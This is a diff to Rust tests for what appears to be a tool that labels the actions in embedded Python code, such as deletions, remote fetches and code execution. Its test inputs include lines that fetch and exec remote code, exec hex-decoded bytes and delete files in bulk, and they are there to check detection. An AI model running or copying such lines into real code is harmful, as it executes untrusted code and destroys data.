@@ -43,6 +43,8 @@ fn describe(embedded: &Embedded) -> String {
             format!("{action:?} {role:?} {}{tree}{all}{feed}", target.display()).to_lowercase()
         }
         Embedded::Unknown(what) => format!("unknown {what}"),
+        Embedded::Hidden(what) => format!("hidden {what}"),
+        Embedded::Undescribed(what) => format!("undescribed {what}"),
     }
 }
 
@@ -130,7 +132,7 @@ fn python_deletes_and_writes() {
             ),
             (
                 "(Path.home() / 'x').unlink(); Path('a') / 'b'",
-                &["delete path $…/x"],
+                &["delete path $home/x"],
             ),
             (
                 "import os, glob\nfor f in glob.glob('/x/*'): os.remove(f)",
@@ -170,7 +172,10 @@ fn python_decodes_and_interprets() {
                 "import urllib.request as u; exec(u.urlopen('http://x').read())",
                 &["fetch remote http://x", "interpret code $… from network"],
             ),
-            ("exec(bytes.fromhex('696d706f7274206f73'))", &[]),
+            (
+                "exec(bytes.fromhex('696d706f7274206f73'))",
+                &["interpret code import os"],
+            ),
             (
                 "getattr(os, name)('x')",
                 &["unknown a call whose name is computed"],
